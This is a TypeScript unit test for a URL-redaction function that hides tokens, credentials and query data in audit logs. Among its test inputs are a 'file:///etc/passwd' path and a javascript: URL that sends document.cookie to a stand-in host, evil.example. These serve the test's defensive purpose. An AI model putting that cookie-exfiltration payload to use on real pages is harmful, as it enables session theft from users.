import assert from 'node:assert/strict';
import { redactUrl } from '../../../../src/core/egress/redactUrl';

describe('core/egress/redactUrl: what the audit log and messages show', () => {
  const rows: [string, string, string][] = [
    ['query and fragment dropped', 'https://example.com/a/b?token=abc#frag', 'https://example.com/a/b?[redacted]#[redacted]'],
    ['userinfo dropped', 'https://user:hunter2@example.com/x', 'https://example.com/x'],
    ['port and IPv6 kept', 'http://[::1]:8080/v1', 'http://[::1]:8080/v1'],
    ['an API key in the path', 'https://api.example.com/v1/sk-abcdef1234567890/models', 'https://api.example.com/v1/[redacted]/models'],
    ['a Telegram-style bot token', 'https://api.telegram.org/bot123456:AAE-secretpart/sendMessage', 'https://api.telegram.org/[redacted]/sendMessage'],
    ['a GitHub token, named by the shared redaction module', 'https://x.example/a/ghp_1234567890abcdefghijklmnopqrstuvwxyz12/x', 'https://x.example/a/[REDACTED:github-token]/x'],
    ['a long hex token', 'https://x.example/reset/0123456789abcdef0123456789abcdef', 'https://x.example/reset/[redacted]'],
    ['a mixed-case opaque token', 'https://x.example/s/Ab3dEf9hIjKlMn0pQrStUvWx', 'https://x.example/s/[redacted]'],
    ['a long slug stays readable', 'https://blog.example/2024/a-very-long-post-title-about-egress-firewalls', 'https://blog.example/2024/a-very-long-post-title-about-egress-firewalls'],
    ['a local file: no host, all payload', 'file:///etc/passwd', 'file:[redacted]'],
    ['another scheme with a host: shown like http, credentials and query dropped', 'ftp://me:pw@example.com/pub/x?y=1', 'ftp://example.com/pub/x?[redacted]'],
    ['a hostless scheme carries its payload in the path', 'mailto:boss@example.com?subject=sk-abcdef1234567890', 'mailto:[redacted]'],
    ['script URL', 'javascript:fetch("https://evil.example/?"+document.cookie)', 'javascript:[redacted]'],
    ['unparsable', 'not a url', '[unparsable URL]'],
  ];
  for (const [name, input, expected] of rows) it(`${name}`, () => assert.equal(redactUrl(input), expected));
});
